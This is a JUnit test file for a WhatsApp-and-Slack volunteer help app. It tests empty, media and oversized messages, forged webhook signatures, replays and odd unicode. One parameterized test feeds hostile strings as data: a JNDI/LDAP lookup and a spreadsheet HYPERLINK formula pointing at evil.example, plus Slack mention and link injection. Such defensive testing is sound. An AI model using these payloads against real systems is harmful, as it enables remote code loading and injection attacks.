package org.doorstep.story;

import static org.assertj.core.api.Assertions.assertThat;
import static org.doorstep.story.SlackWindow.OFFICERS;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.function.Supplier;
import org.doorstep.cell.CellId;
import org.doorstep.redis.Gauges;
import org.doorstep.redis.RedisRoom;
import org.doorstep.story.SlackWindow.Posted;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Whatever comes in: a kind answer or a plain refusal, no fault, nothing put aside. */
class BadInputTest {

  private static int strangers = 140;

  private static RunningVillage village;
  private static SlackWindow slack;
  private static Envelopes posts;

  @BeforeAll
  static void start(@TempDir Path data) {
    village = RunningVillage.start(data);
    slack = new SlackWindow(village);
    posts = new Envelopes(village);
  }

  @AfterEach
  void nothingWasPutAside() {
    village.until("everything has been dealt with", () -> gauges().inbox() == 0);
    assertThat(gauges().parked()).isZero();
  }

  @AfterAll
  static void stop() {
    posts.close();
    slack.close();
    village.close();
  }

  @Test
  void anEmptyMessageIsAnswered() {
    String phone = stranger();
    village.answered(phone, "", "came through empty");
  }

  @ParameterizedTest
  @CsvSource({
    "audio, cannot listen to voice notes",
    "image, cannot look at pictures",
    "video, cannot watch videos",
    "document, cannot open documents",
    "sticker, Nice sticker!",
    "contact, cannot use contact cards"
  })
  void whatIsNotWordsIsAnswered(String kind, String words) {
    String phone = stranger();
    village.village().phones().media(phone, kind);
    village.hears(phone, words);
  }

  @ParameterizedTest
  @CsvSource({"/webhooks/twilio/message", "/webhooks/twilio/status", "/webhooks/slack"})
  void whoeverIsTurnedAwayHoldsUpNobodyBehindThem(String door) throws Exception {
    URI base = URI.create("http://localhost:" + village.port);
    HttpRequest unsigned =
        HttpRequest.newBuilder(base.resolve(door))
            .header("Content-Type", "application/x-www-form-urlencoded")
            .POST(HttpRequest.BodyPublishers.ofString("Body=" + "x".repeat(200_000)))
            .build();
    HttpRequest page = HttpRequest.newBuilder(base.resolve("/village/state")).build();
    try (HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build()) {
      for (int i = 0; i < 200; i++) {
        HttpResponse<Void> refused = http.send(unsigned, HttpResponse.BodyHandlers.discarding());
        assertThat(refused.statusCode()).isBetween(400, 499);
        assertThat(refused.headers().firstValue("Connection")).contains("close");
        assertThat(http.send(page, HttpResponse.BodyHandlers.discarding()).statusCode())
            .isEqualTo(200);
      }
    }
  }

  @Test
  void anAlbumThatComesAllAtOnceIsAnswered() {
    String phone = stranger();
    village.answered(phone, "MY JOBS", "You have no jobs in hand");
    List<Integer> answers =
        together(
            5,
            () -> {
              Map<String, String> picture = new LinkedHashMap<>();
              synchronized (posts) {
                picture.putAll(posts.message(phone, ""));
              }
              picture.put("NumMedia", "1");
              picture.put("MessageType", "image");
              picture.put("MediaContentType0", "image/jpeg");
              picture.put("MediaUrl0", "https://api.twilio.com/2010-04-01/Accounts/x");
              return posts.twilio(picture);
            });
    assertThat(answers).containsOnly(200);
    village.hears(phone, "Thank you for the picture");
  }

  @Test
  void aPinWithoutAWordIsAnswered() {
    String phone = stranger();
    village.village().phones().pin(phone, 53.8227, -1.5742, null);
    village.until("an answer", () -> !village.shown(phone).getLast().mine());
    assertThat(village.shown(phone).getLast().text()).isNotBlank();
    village.village().phones().pin(phone, 89.99, 179.99, "<b>nowhere</b>");
    village.answered(phone, "help", "You can send these words");
  }

  @Test
  void aRambleIsTakenApart() {
    String phone = stranger();
    String ramble = "you see my dear it is a long story ".repeat(60).substring(0, 1530);
    village.says(phone, ramble + " so I need bread and milk today at LS6 3HN please");
    village.until("an answer", () -> !village.shown(phone).getLast().mine());
    assertThat(village.everythingOn(phone)).contains("?");
    village.answered(phone, "cancel", "dropped");
  }

  @ParameterizedTest
  @CsvSource({
    "'مرحبا، أحتاج إلى خبز وحليب من فضلك'",
    "'\u202Eolleh\u202C \u200B\u200E\u2066hidden\u2069'",
    "'z\u0336\u0321\u035Aa\u0334\u0322l\u0337\u0325g\u0338\u0326o\u0335\u0327 h\u0336\u0321elp'",
    "'👩‍👩‍👧‍👦🏴󠁧󠁢󠁷󠁬󠁳󠁿'",
    "'=HYPERLINK(\"http://evil.example\")'",
    "'{{1}} ${jndi:ldap://evil.example/x} %s %n'"
  })
  void strangeWritingIsAnswered(String text) {
    String phone = stranger();
    village.says(phone, text);
    village.until("an answer", () -> !village.shown(phone).getLast().mine());
    assertThat(village.shown(phone).getLast().text()).doesNotContain("jndi", "HYPERLINK");
  }

  @Test
  void markupOnWhatsAppIsPlainTextInSlack() {
    String phone = stranger();
    Posted card = cardFor(() -> village.answered(phone, "HUMAN", "I have asked Amina"));
    village.says(phone, "<!channel> <@U0DEREK> <https://evil.example|click me> *bold* &amp;");
    Posted line = slack.line(OFFICERS, card, "click me");
    assertThat(line.blocks())
        .contains("<!channel>", "<@U0DEREK>", "*bold* &amp;")
        .doesNotContain("mrkdwn", "\"type\":\"user\"", "\"type\":\"link\"", "\"broadcast\"");
    assertThat(line.text())
        .contains("&lt;!channel&gt;", "&lt;@U0DEREK&gt;", "&amp;amp;")
        .doesNotContain("<!", "<@", "<http");
  }

  @Test
  void somebodyWithoutANumberIsServedLikeAnybody() {
    String phone = "GB.1A2B3C4D5E6F";
    Posted card = cardFor(() -> village.answered(phone, "HUMAN", "I have asked Amina"));
    assertThat(card.text() + card.blocks()).doesNotContain("1A2B");
    village.village().slack().say(OFFICERS, "U0AMINA", "Good afternoon", card.ts());
    village.hears(phone, "Good afternoon");
  }

  @Test
  void whatIsNotForUsIsTakenAndLeftAlone() {
    assertThat(posts.twilio(posts.message("+447700900000", "hello me"))).isEqualTo(200);
    Map<String, String> elsewhere = posts.message("+447700900199", "hello");
    elsewhere.put("To", "whatsapp:+447700900555");
    assertThat(posts.twilio(elsewhere)).isEqualTo(200);
    assertThat(posts.slack(event("T0ELSEWHERE"), now())).isEqualTo(200);
    assertThat(slack.directly("U0JOAN")).isEmpty();
    answerSomebody();
    assertThat(village.shown("+447700900000")).isEmpty();
    assertThat(village.shown("+447700900199")).isEmpty();
    assertThat(slack.directly("U0JOAN")).isEmpty();
  }

  @Test
  void anOldButtonIsClosedKindly() {
    String phone = stranger();
    village.answered(phone, "help", "You can send these words");
    for (String payload :
        List.of(
            "request-help~1~confirm~send~x", "job~1~offered~take~rnone.1.1", "rubbish", "~~~~")) {
      int before = village.shown(phone).size();
      village.village().phones().tap(phone, "m0", payload, "Yes");
      village.until(
          "an answer to " + payload,
          () -> village.shown(phone).stream().skip(before).anyMatch(m -> !m.mine()));
    }
    assertThat(village.everythingOn(phone)).contains("That question is closed now");
  }

  @Test
  void aJobThatIsGoneIsSaidToBeGone() {
    village.asksFor("edna", "Could somebody walk my dog today? LS6 3HN");
    village.hears("priya", "Could you do it?");
    village.answered("edna", "CANCEL", "I have cancelled it and told everyone");
    int before = village.shown("priya").size();
    village.taps("priya", "job/offered/take");
    village.hears("priya", before, "that job is not open any more");
  }

  @Test
  void fiftyCopiesHaveOneEffect() {
    String phone = stranger();
    village.answered(phone, "MY JOBS", "You have no jobs in hand");
    Map<String, String> fields = posts.message(phone, "help");
    String signature = posts.signature(fields);
    assertThat(together(50, () -> posts.twilio(fields, signature))).hasSize(50).containsOnly(200);
    village.hears(phone, "You can send these words");
    village.answered(phone, "MY JOBS", "You have no jobs in hand");
    assertThat(village.shown(phone).stream().filter(m -> m.text().contains("You can send")))
        .hasSize(1);
  }

  @Test
  void whatTwilioDidNotSignIsTurnedAway() {
    String phone = stranger();
    Map<String, String> fields = posts.message(phone, "I live at number 9");
    String signature = posts.signature(fields);
    assertThat(posts.twilio(fields, "")).isEqualTo(403);
    assertThat(posts.twilio(fields, "AAAA" + signature.substring(4))).isEqualTo(403);
    Map<String, String> tampered = new LinkedHashMap<>(fields);
    tampered.put("Body", "STOP");
    assertThat(posts.twilio(tampered, signature)).isEqualTo(403);
    Map<String, String> swallowed = new LinkedHashMap<>(fields);
    String from = swallowed.remove("From");
    swallowed.put("Body", fields.get("Body") + "From" + from);
    assertThat(posts.twilio(swallowed, signature)).isIn(400, 403);
    Map<String, String> resplit = new LinkedHashMap<>(fields);
    resplit.remove("Body");
    resplit.put("BodyI", " live at number 9");
    assertThat(posts.signature(resplit)).isEqualTo(signature);
    assertThat(posts.twilio(resplit, signature)).isIn(400, 403);
    answerSomebody();
    assertThat(village.shown(phone)).isEmpty();
  }

  @Test
  void whatSlackDidNotSignNowIsTurnedAway() {
    String event = event("T0VILLAGE");
    assertThat(posts.slack(event, now(), "")).isEqualTo(403);
    assertThat(posts.slack(event, now(), posts.slackSignature(event + " ", now()))).isEqualTo(403);
    assertThat(posts.slack(event, now() - 301)).isEqualTo(403);
    assertThat(posts.slack(event, now() + 301)).isEqualTo(403);
    answerSomebody();
    assertThat(slack.directly("U0JOAN")).isEmpty();
  }

  /** By then whatever came before it would have had its effect. */
  private static void answerSomebody() {
    village.answered(stranger(), "help", "You can send these words");
  }

  private static String stranger() {
    return "+447700900" + ++strangers;
  }

  private static long now() {
    return village.clock.instant().getEpochSecond();
  }

  private static String event(String team) {
    return """
        {"type":"event_callback","team_id":"%s","event_id":"Ev0BAD","event":{"type":"message",
        "channel":"D0JOAN","channel_type":"im","user":"U0JOAN","text":"I want to help",
        "ts":"%d.000900"}}"""
        .formatted(team, now());
  }

  /** The card that somebody's asking for a person leads to, and none that was there before. */
  private static Posted cardFor(Runnable asking) {
    List<String> before = slack.channel(OFFICERS).stream().map(Posted::ts).toList();
    asking.run();
    return slack.post(
        OFFICERS,
        "a new card",
        p -> p.says("Waiting for somebody to take it") && !before.contains(p.ts()));
  }

  private static Gauges.Reading gauges() {
    return village
        .bean(RedisRoom.class)
        .gauges()
        .read(new CellId("hyde-park"), village.clock.instant())
        .block();
  }

  private static List<Integer> together(int times, Supplier<Integer> post) {
    try (var threads = Executors.newVirtualThreadPerTaskExecutor()) {
      List<Integer> answers = new ArrayList<>();
      for (Future<Integer> answer :
          threads.invokeAll(Collections.<Callable<Integer>>nCopies(times, post::get))) {
        answers.add(answer.get());
      }
      return answers;
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      throw new IllegalStateException(e);
    } catch (ExecutionException e) {
      throw new IllegalStateException(e);
    }
  }
}
